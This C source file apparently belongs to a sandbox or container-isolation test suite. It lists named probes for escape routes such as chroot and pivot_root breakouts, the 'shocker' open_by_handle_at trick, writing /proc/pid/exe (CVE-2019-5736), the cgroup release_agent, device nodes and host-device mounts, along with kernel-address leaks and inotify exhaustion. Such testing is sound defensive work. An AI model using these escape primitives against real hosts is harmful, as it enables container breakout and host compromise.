/* At the host's files, devices and file systems. */
#include "attack.h"
#include <dirent.h>
#include <ftw.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <linux/random.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

static int opens(const char *path)
{
	return open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK) == -1 ? -1 : 0;
}

/* ---- files of the kernel ------------------------------------------------------------------------------------------- */

static int read_it(char **words)
{
	char text[4096];
	int fd = open(words[0], O_RDONLY | O_NONBLOCK);
	ssize_t size = fd == -1 ? -1 : read(fd, text, sizeof text);
	if (size == 0)
		refused("EMPTY");
	return size == -1 ? -1 : 0;
}

/* Addresses of the kernel's, which are shown as zeros to who must not know them. */
static int read_addresses(char **words)
{
	char line[4096];
	FILE *file = fopen(words[0], "re");
	if (!file)
		return -1;
	while (fgets(line, sizeof line, file))
		for (char *word = strtok(line, " \t\n-"); word; word = strtok(NULL, " \t\n-"))
			if (strspn(word + (strncmp(word, "0x", 2) ? 0 : 2), "0123456789abcdef") >= 12 &&
			    strtoull(word, NULL, 16) >> 32)
				return 0;
	refused("ZEROS");
}

/* Where in the machine's memory a page of ours is. */
static int read_frame(char **words)
{
	(void)words;
	uint64_t entry = 0;
	volatile int here = 1;
	int fd = need(open("/proc/self/pagemap", O_RDONLY), "open pagemap");
	off_t at = (off_t)((uintptr_t)&here / (uintptr_t)sysconf(_SC_PAGESIZE) * sizeof entry);
	need(pread(fd, &entry, sizeof entry, at) == sizeof entry ? 0 : -1, "read it");
	if (!(entry << 9))
		refused("ZEROS");
	return 0;
}

/* The file that a process has mapped, past what its path says. */
static int open_mapped(char **words)
{
	char path[300];
	(void)words;
	DIR *maps = opendir("/proc/self/map_files");
	for (struct dirent *entry; maps && (entry = readdir(maps));)
		if (strchr(entry->d_name, '-')) {
			snprintf(path, sizeof path, "/proc/self/map_files/%s", entry->d_name);
			return opens(path);
		}
	return -1;
}

/* Make the machine believe that it has less to guess from, by a number that there cannot be. */
static int spoil_entropy(char **words)
{
	(void)words;
	return ioctl(need(open("/dev/random", O_RDWR), "open random"), RNDADDTOENTCNT, &(int){-1});
}

/* Write back what is there: nothing changes. */
static int rewrite(char **words)
{
	char text[4096] = "";
	int fd = open(words[0], O_RDONLY);
	ssize_t size = fd == -1 ? 0 : read(fd, text, sizeof text - 1);
	close(fd);
	return put(words[0], size > 0 ? text : "\n");
}

static int write_it(char **words)
{
	return put(words[0], words[1]);
}

static int writable; /* how many of a tree */

static int count_writable(const char *path, const struct stat *at, int kind, struct FTW *where)
{
	if (kind == FTW_D && where->level == 1 && (atoi(path + where->base) || strstr(path + where->base, "self")))
		return FTW_SKIP_SUBTREE;
	if (kind != FTW_F || !S_ISREG(at->st_mode))
		return FTW_CONTINUE;
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd != -1) {
		if (!writable++)
			printf("(%s) ", path);
		close(fd);
	}
	return FTW_CONTINUE;
}

static int write_anywhere(char **words)
{
	if (nftw(words[0], count_writable, 32, FTW_PHYS | FTW_ACTIONRETVAL | FTW_MOUNT * !!words[1]) == -1)
		return -1;
	if (!writable)
		refused("NONE");
	return 0;
}

/* ---- file systems -------------------------------------------------------------------------------------------------- */

static int mount_it(char **words)
{
	own_mounts();
	return mount(words[1] ? words[1] : "none", fresh_directory(), words[0], 0, words[1] ? words[2] : NULL);
}

/* Mount it, and look for what only the host's has. */
static int mount_and_open(char **words)
{
	char path[4200];
	own_mounts();
	const char *at = fresh_directory();
	if (mount("none", at, words[0], 0, words[2]) == -1)
		return -1;
	snprintf(path, sizeof path, "%s/%s", at, words[1]);
	return open(path, O_RDWR) == -1 ? -1 : 0;
}

/* A hierarchy of cgroup v1 that a hybrid host has: make a cgroup, or have a program of ours run when one is empty. */
static int old_cgroups(char **words)
{
	char path[4200];
	own_mounts();
	const char *at = fresh_directory();
	if (mount("none", at, "cgroup", 0, words[0]) == -1)
		return -1;
	snprintf(path, sizeof path, "%s/attack", at);
	if (mkdir(path, 0755) == 0)
		return rmdir(path);
	snprintf(path, sizeof path, "%s/release_agent", at);
	if (rewrite((char *[]){path, NULL}) == 0)
		return 0;
	snprintf(path, sizeof path, "%s/cgroup.procs", at);
	return put(path, "0");
}

static int new_mount(char **words)
{
	int context = (int)syscall(SYS_fsopen, words[0], 0);
	if (context == -1 || syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) == -1)
		return -1;
	return syscall(SYS_fsmount, context, 0, 0) == -1 ? -1 : 0;
}

/* Take the read-only flag from a superblock that is ours, then write. */
static int reconfigure(char **words)
{
	int context = (int)syscall(SYS_fspick, AT_FDCWD, words[0], 0);
	if (context == -1 || syscall(SYS_fsconfig, context, FSCONFIG_SET_FLAG, "rw", NULL, 0) == -1 ||
	    syscall(SYS_fsconfig, context, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) == -1)
		return -1;
	return write_anywhere((char *[]){words[0], "here", NULL});
}

static int clear_flag(char **words)
{
	static const struct {
		const char *name;
		unsigned long long bit;
	} flags[] = {{"ro", MOUNT_ATTR_RDONLY}, {"nosuid", MOUNT_ATTR_NOSUID}, {"nodev", MOUNT_ATTR_NODEV}};
	for (size_t at = 0; at < sizeof flags / sizeof *flags; at++)
		if (!strcmp(flags[at].name, words[1])) {
			struct mount_attr change = {.attr_clr = flags[at].bit};
			return (int)syscall(SYS_mount_setattr, AT_FDCWD, words[0], 0, &change, sizeof change);
		}
	errno = EINVAL;
	cannot(words[1]);
}

static int remount(char **words)
{
	return mount(NULL, words[0], NULL, MS_BIND | MS_REMOUNT, NULL);
}

/* Own the files of a file system of the host's by an id map of our own. */
static int map_ids(char **words)
{
	char process[64], path[96];
	pid_t child = in_user_namespace(process);
	snprintf(path, sizeof path, "%s/uid_map", process);
	put(path, "0 0 1");
	snprintf(path, sizeof path, "%s/gid_map", process);
	put(path, "0 0 1");
	snprintf(path, sizeof path, "%s/ns/user", process);
	int user = open(path, O_RDONLY | O_CLOEXEC), clone = (int)syscall(SYS_open_tree, AT_FDCWD, words[0], OPEN_TREE_CLONE);
	struct mount_attr change = {.attr_set = MOUNT_ATTR_IDMAP, .userns_fd = (unsigned)user};
	int result = (int)syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &change, sizeof change), error = errno;
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	errno = error;
	return result;
}

/* Have a mount of ours arrive where others have the same directory; the witness says where it is seen. */
static int propagate(char **words)
{
	own_mounts();
	need(mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL), "share mounts");
	if (mount("attack", words[0], "tmpfs", 0, NULL) == -1)
		return -1;
	until_the_witness_has_looked();
	return 0;
}

static int control(char **words)
{
	static const struct {
		const char *name;
		unsigned long request;
		long argument; /* of FS_IOC_SHUTDOWN: one that there is not */
	} calls[] = {{"freeze", FIFREEZE, 0}, {"shutdown", _IOR('X', 125, uint32_t), 99}};
	int fd = need(open(words[1], O_RDONLY), "open the directory");
	for (size_t at = 0; at < sizeof calls / sizeof *calls; at++)
		if (!strcmp(calls[at].name, words[0]))
			return ioctl(fd, calls[at].request, &(long){calls[at].argument});
	errno = EINVAL;
	cannot(words[0]);
}

static int make_immutable(char **words)
{
	char path[4200];
	snprintf(path, sizeof path, "%s/immutable.%d", words[0], getpid());
	int fd = need(open(path, O_RDWR | O_CREAT | O_EXCL, 0644), "make a file"), flags = 0;
	need(ioctl(fd, FS_IOC_GETFLAGS, &flags), "ask for its flags");
	int set = flags | FS_IMMUTABLE_FL, result = ioctl(fd, FS_IOC_SETFLAGS, &set), error = errno;
	if (result == 0)
		ioctl(fd, FS_IOC_SETFLAGS, &flags);
	unlink(path);
	errno = error;
	return result;
}

static int trust(char **words)
{
	int result = setxattr(words[0], "trusted.attack", "x", 1, 0);
	if (result == 0)
		removexattr(words[0], "trusted.attack");
	return result;
}

static int watch_file_system(char **words)
{
	int fd = need(fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY), "fanotify_init");
	return fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, words[0]);
}

/* By its number: CVE-2014-3519 and the like, the "shocker". */
static int by_handle(char **words)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} of = {{.handle_type = atoi(words[1])}};
	for (const char *digit = words[2]; digit[0] && digit[1] && of.handle.handle_bytes < MAX_HANDLE_SZ; digit += 2) {
		unsigned byte;
		sscanf(digit, "%2x", &byte);
		of.handle.f_handle[of.handle.handle_bytes++] = (unsigned char)byte;
	}
	int at = need(open(words[0], O_RDONLY), "open a directory of the same file system");
	return open_by_handle_at(at, &of.handle, O_RDONLY) == -1 ? -1 : 0;
}

/* ---- devices ------------------------------------------------------------------------------------------------------- */

/* A node of our own, wherever one may be made. */
static int node(char **words)
{
	const char *const rooms[] = {fresh_directory(), "/dev", "/dev/shm", "/run"};
	char path[4200];
	mode_t kind = words[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	int error = 0;
	for (size_t at = 0; at < sizeof rooms / sizeof *rooms; at++) {
		snprintf(path, sizeof path, "%s/attack.node", rooms[at]);
		if (mknod(path, kind | 0600, makedev((unsigned)atoi(words[1]), (unsigned)atoi(words[2]))) == -1) {
			error = errno;
			continue;
		}
		int opened = open(path, O_RDONLY | O_NONBLOCK);
		error = opened == -1 && errno != ENXIO && errno != ENODEV ? errno : 0; /* the last two are a driver's */
		unlink(path);
		if (!error)
			return 0;
	}
	errno = error;
	return -1;
}

static int node_on_new_tmpfs(char **words)
{
	own_mounts();
	const char *room = fresh_directory();
	need(mount("attack", room, "tmpfs", 0, NULL), "mount tmpfs");
	need(setenv("ATTACK_ROOM", room, 1), "be there");
	return node(words);
}

/* The file system on a block device: by its name in the host's /dev, and by a node of our own. */
static int mount_device(char **words)
{
	own_mounts();
	char own[4200];
	const char *at = fresh_directory();
	if (mount(words[0], at, "ext4", 0, NULL) == 0)
		return 0;
	int error = errno;
	snprintf(own, sizeof own, "%s/block", at);
	int made = mknod(own, S_IFBLK | 0600, makedev((unsigned)atoi(words[1]), (unsigned)atoi(words[2])));
	int result = made == 0 ? mount(own, at, "ext4", 0, NULL) : -1;
	unlink(own);
	errno = error;
	return result;
}

/* ---- out of the root ----------------------------------------------------------------------------------------------- */

static int change_root(char **words)
{
	const char *at = fresh_directory();
	int up = need(open("/", O_RDONLY), "open the root");
	need(chroot(at), "chroot");
	need(fchdir(up), "stay outside");
	for (int level = 0; level < 64; level++)
		need(chdir(".."), "go up");
	need(chroot("."), "have it as root");
	return opens(words[0]);
}

/* Take the root away from what lies below it. */
static int unmount_root(char **words)
{
	need(unshare(CLONE_NEWNS), "unshare mounts");
	int result = umount2("/", MNT_DETACH), error = errno;
	if (result == 0 && chdir("/") == 0)
		return opens(words[0]);
	errno = error;
	return -1;
}

static int pivot(char **words)
{
	own_mounts();
	const char *at = fresh_directory();
	need(mount("attack", at, "tmpfs", 0, NULL), "mount tmpfs");
	need(chdir(at), "go there");
	need(mkdir("old", 0755), "make a directory");
	if (syscall(SYS_pivot_root, ".", "old") == -1)
		return -1;
	need(chdir("/old"), "go to the old root");
	char up[4300] = "";
	for (int level = 0; level < 64; level++)
		strcat(up, "../");
	strcat(up, words[0] + 1);
	if (opens(words[0] + 1) == 0 || opens(up) == 0)
		return 0;
	int error = errno;
	if (umount2("/old", MNT_DETACH) == 0 && (opens(up) == 0 || opens(words[0]) == 0))
		return 0;
	errno = error;
	return -1;
}

/* CVE-2019-5736: the program that a process here runs, which may be the host's. */
static int running_program(char **words)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/exe", words[0]);
	return open(path, O_WRONLY) == -1 && errno != ETXTBSY ? -1 : 0; /* that it is busy comes after who may write it */
}

/* See when others open a file: every mask of ours is one. */
static int see_opens(char **words)
{
	char events[4096];
	int fd = need(inotify_init1(IN_NONBLOCK), "inotify_init1");
	if (inotify_add_watch(fd, words[0], IN_OPEN) == -1)
		return -1;
	until_the_witness_has_looked();
	return read(fd, events, sizeof events) == -1 ? -1 : 0;
}

/* All that the kernel lets one user have. */
static int watch_everything(char **words)
{
	(void)words;
	struct rlimit files;
	getrlimit(RLIMIT_NOFILE, &files);
	files.rlim_cur = files.rlim_max;
	setrlimit(RLIMIT_NOFILE, &files);
	if (inotify_init1(0) == -1)
		return -1;
	while (inotify_init1(0) != -1)
		;
	until_the_witness_has_looked();
	return 0;
}

const struct attack FILES[] = {
	{"read", read_it},
	{"addresses", read_addresses},
	{"pagemap", read_frame},
	{"map_files", open_mapped},
	{"entropy", spoil_entropy},
	{"rewrite", rewrite},
	{"write", write_it},
	{"write-anywhere", write_anywhere},
	{"mount", mount_it},
	{"mount-open", mount_and_open},
	{"cgroup-v1", old_cgroups},
	{"fsmount", new_mount},
	{"reconfigure", reconfigure},
	{"clear", clear_flag},
	{"remount", remount},
	{"idmap", map_ids},
	{"propagate", propagate},
	{"control", control},
	{"immutable", make_immutable},
	{"trusted", trust},
	{"fanotify-mark", watch_file_system},
	{"handle", by_handle},
	{"node", node},
	{"node-tmpfs", node_on_new_tmpfs},
	{"mount-device", mount_device},
	{"chroot", change_root},
	{"umount-root", unmount_root},
	{"pivot_root", pivot},
	{"exe", running_program},
	{"watch", see_opens},
	{"inotify", watch_everything},
	{0},
};
